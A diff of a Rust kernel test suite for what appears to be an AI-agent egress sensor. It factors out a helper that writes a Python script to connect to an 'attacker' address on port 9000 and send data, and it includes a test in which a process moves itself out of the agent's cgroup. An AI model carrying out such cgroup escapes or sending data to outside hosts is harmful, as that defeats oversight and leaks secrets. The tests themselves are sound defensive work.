@@ -58,6 +58,24 @@ fn alerts_of<'a>(alerts: &'a [Value], rule: &str) -> Vec<&'a Value> {
     alerts.iter().filter(|a| a["rule"] == rule).collect()
 }
 
+/// A python script (written into the scene) that waits `sys.argv[1]` seconds, connects to
+/// `ip`:9000 and sends, then writes "sent" or "errno N" to `outcome`.
+fn connect_and_send_script(scene: &Scene, ip: impl std::fmt::Display, outcome: &Path) -> PathBuf {
+    let path = scene.root.join("connect.py");
+    let script = format!(
+        "import socket, sys, time\n\
+         time.sleep(float(sys.argv[1]))\n\
+         try:\n\
+         \x20   socket.create_connection(('{ip}', 9000), timeout=3).sendall(b'out'); said = 'sent'\n\
+         except OSError as e:\n\
+         \x20   said = 'errno %d' % e.errno\n\
+         open('{outcome}', 'w').write(said)\n",
+        outcome = s(outcome),
+    );
+    std::fs::write(&path, script).unwrap();
+    path
+}
+
 #[test]
 fn nothing_of_the_secret_reaches_the_attacker() {
     if !can_run_kernel_tests("nothing_of_the_secret_reaches_the_attacker") {
@@ -614,16 +632,11 @@ fn a_process_that_moved_itself_out_of_the_agent_cgroup_is_still_held_to_its_allo
     let _listener = attacker.listen(9000, false, &record);
     let mut sensor = scene.sensor();
     let outcome = scene.root.join("outcome");
+    let connect = connect_and_send_script(&scene, attacker.remote_ip, &outcome);
     let script = format!(
-        "echo $$ > {procs} && exec /usr/bin/python3 -c \"\nimport socket\n\
-         try:\n\
-         \x20   socket.create_connection(('{ip}', 9000), timeout=3).sendall(b'escaped'); said = 'sent'\n\
-         except OSError as e:\n\
-         \x20   said = 'errno %d' % e.errno\n\
-         open('{outcome}', 'w').write(said)\n\"",
+        "echo $$ > {procs} && exec /usr/bin/python3 {connect} 0",
         procs = s(&elsewhere.path.join("cgroup.procs")),
-        ip = attacker.remote_ip,
-        outcome = s(&outcome),
+        connect = s(&connect),
     );
     let status = sensor.exec_agent("escaped-egress", &scene.worktree, &script);
     let events = sensor.stop();
@@ -652,20 +665,11 @@ fn a_discovered_agent_is_held_to_its_allowlist() {
     let _listener = attacker.listen(9000, false, &record);
     let mut sensor = scene.sensor();
     let outcome = scene.root.join("outcome");
+    let connect = connect_and_send_script(&scene, attacker.remote_ip, &outcome);
     // The daemon adopts the agent at its first event; the pause stands for a runtime's start.
-    let script = format!(
-        "import socket, time\n\
-         time.sleep(0.5)\n\
-         try:\n\
-         \x20   socket.create_connection(('{ip}', 9000), timeout=3).sendall(b'found'); said = 'sent'\n\
-         except OSError as e:\n\
-         \x20   said = 'errno %d' % e.errno\n\
-         open('{outcome}', 'w').write(said)\n",
-        ip = attacker.remote_ip,
-        outcome = s(&outcome),
-    );
     let status = Command::new("/usr/bin/python3")
-        .args(["-c", &script])
+        .arg(&connect)
+        .arg("0.5")
         .env("AGENT_SENSOR_AGENT", "wanderer")
         .status()
         .unwrap();
